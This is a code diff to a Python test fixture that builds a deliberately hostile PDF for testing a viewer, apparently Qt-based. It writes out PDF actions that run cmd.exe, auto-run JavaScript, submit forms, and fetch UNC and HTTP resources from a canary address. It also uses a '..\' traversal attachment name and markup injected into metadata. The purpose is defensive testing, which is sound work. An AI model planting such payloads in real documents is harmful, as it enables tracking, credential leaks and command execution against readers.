@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import zlib
-from collections.abc import Mapping
+from collections.abc import Callable, Mapping
 from functools import cache
 
 CANARY = "//10.255.255.1/share/x.png"
@@ -93,44 +93,63 @@ def bomb_pdf() -> bytes:
     return carrying_pdf(catalog="/Names << /EmbeddedFiles << /Names [(a) 100 0 R] >> >>", more=more)
 
 
-def hostile_pdf() -> bytes:
-    """Return a PDF of two pages that tries all there is to phone home, to start things, and to have its words read as markup."""
-    markup = MARKUP.replace('"', "\\042")
-    unc = "\\\\\\\\10.255.255.1\\\\share\\\\x.png"
-    chain = f"/S /JavaScript /JS ({SCRIPT.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) /Next 101 0 R"
+def markup(field: str) -> str:
+    """Return words that Qt would read as markup, and fetch a picture for that is named after a field."""
+    return MARKUP.replace("x.png", f"{field}.png")
+
+
+def _same(_field: str) -> str:
+    return MARKUP
+
+
+def hostile_pdf(say: Callable[[str], str] = _same, *, pages: int = 2) -> bytes:
+    """Return a PDF that tries all there is to phone home, to start things, and to have its words read as markup.
+
+    Args:
+        say: Returns what it says in a field, by the field's name.
+        pages: How many it has; all but the last are blank.
+
+    """
+    unc = string("\\\\10.255.255.1\\share\\x.png")
+
+    def said(field: str) -> str:
+        return string(say(field))
+
+    name = string(f"..\\{say('attachment')}.pdf")
     more: dict[int, bytes | str] = {
-        100: f"<< {chain} >>",
-        101: f"<< /S /Launch /F ({unc}) /Win << /F (cmd.exe) /P (/c start http://10.255.255.1) >> /Next [102 0 R 100 0 R] >>",
+        100: f"<< /S /JavaScript /JS {string(SCRIPT)} /Next 101 0 R >>",
+        101: f"<< /S /Launch /F {unc} /Win << /F (cmd.exe) /P (/c start http://10.255.255.1) >> /Next [102 0 R 100 0 R] >>",
         102: "<< /S /SubmitForm /F << /FS /URL /F (http://10.255.255.1/form) >> /Fields [] >>",
-        103: f"<< /S /GoToR /F ({unc}) /D [0 /Fit] >>",
-        104: f"<< /Type /Filespec /F (..\\\\{markup}.pdf) /UF (..\\\\{markup}.pdf) /EF << /F 105 0 R >> /Desc ({markup}) >>",
+        103: f"<< /S /GoToR /F {unc} /D [0 /Fit] >>",
+        104: f"<< /Type /Filespec /F {name} /UF {name} /EF << /F 105 0 R >> /Desc {said('attachment_note')} >>",
         105: stream(b"attached", "/Type /EmbeddedFile"),
         106: stream(b"<xdp:xdp xmlns:xdp='http://10.255.255.1/'/>"),
-        107: f"<< /T ({markup}) /FT /Sig /V << /Name ({markup}) /M (D:20190102030405Z) >> >>",
-        108: f"<< /Title ({markup}) /Parent 109 0 R /A << /S /URI /URI (http://10.255.255.1/heading) >> >>",
+        107: f"<< /T {said('form')} /FT /Sig /V << /Name {said('signature')} /M (D:20190102030405Z) >> >>",
+        108: f"<< /Title {said('outline')} /Parent 109 0 R /A << /S /URI /URI (http://10.255.255.1/heading) >> >>",
         109: "<< /Type /Outlines /First 108 0 R /Last 108 0 R /Count 1 >>",
-        110: f"<< /Title ({markup}) /Author ({markup}) /Subject ({markup}) /Creator ({markup}) >>",
-        111: stream(b"", f"/Type /XObject /Subtype /Image /Width 1 /Height 1 /F ({unc}) /FFilter /DCTDecode"),
+        110: f"<< /Title {said('title')} /Author {said('author')} /Subject {said('subject')} /Creator {said('creator')} >>",
+        111: stream(b"", f"/Type /XObject /Subtype /Image /Width 1 /Height 1 /F {unc} /FFilter /DCTDecode"),
         112: stream(b"q 10 0 0 10 0 0 cm /Im Do Q BT /F1 12 Tf 50 700 Td (We never asked for it.) Tj ET"),
         113: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-        114: f"<< /Type /OCG /Name ({markup}) >>",
+        114: f"<< /Type /OCG /Name {said('layer')} >>",
     }
     catalog = (
         "/OpenAction 100 0 R /AA << /WC 100 0 R >> /AcroForm << /Fields [107 0 R] /XFA 106 0 R >> /Outlines 109 0 R "
-        f"/Names << /JavaScript << /Names [(a) 100 0 R] >> /EmbeddedFiles << /Names [(x) 104 0 R] >> >> "
-        f"/OCProperties << /OCGs [114 0 R] /D << /ON [114 0 R] >> >> /PageLabels << /Nums [0 << /P ({markup}) >>] >>"
+        "/Names << /JavaScript << /Names [(a) 100 0 R] >> /EmbeddedFiles << /Names [(x) 104 0 R] >> >> "
+        f"/OCProperties << /OCGs [114 0 R] /D << /ON [114 0 R] >> >> /PageLabels << /Nums [0 << /P {said('label')} >>] >>"
     )
+    remark = f"/T {said('annotation_author')} /Contents {said('annotation')}"
     return carrying_pdf(
         catalog=catalog,
         page="/AA << /O 101 0 R >> /Contents 112 0 R /Resources << /XObject << /Im 111 0 R >> /Font << /F1 113 0 R >> >>",
         annotations=(
             "/Subtype /Link /A << /S /URI /URI (http://10.255.255.1/a) >>",
             "/Subtype /Link /A 103 0 R",
-            f"/Subtype /Link /A << /S /URI /URI ({markup}) >>",
-            f"/Subtype /Highlight /QuadPoints [50 712 150 712 50 698 150 698] /T ({markup}) /Contents ({markup})",
-            f"/Subtype /FileAttachment /FS 104 0 R /Contents ({markup})",
+            f"/Subtype /Link /A << /S /URI /URI {said('link')} >>",
+            f"/Subtype /Highlight /QuadPoints [50 712 150 712 50 698 150 698] {remark}",
+            f"/Subtype /FileAttachment /FS 104 0 R /Contents {said('attachment_comment')}",
         ),
-        pages=2,
+        pages=pages,
         more=more,
         trailer="/Info 110 0 R",
     )
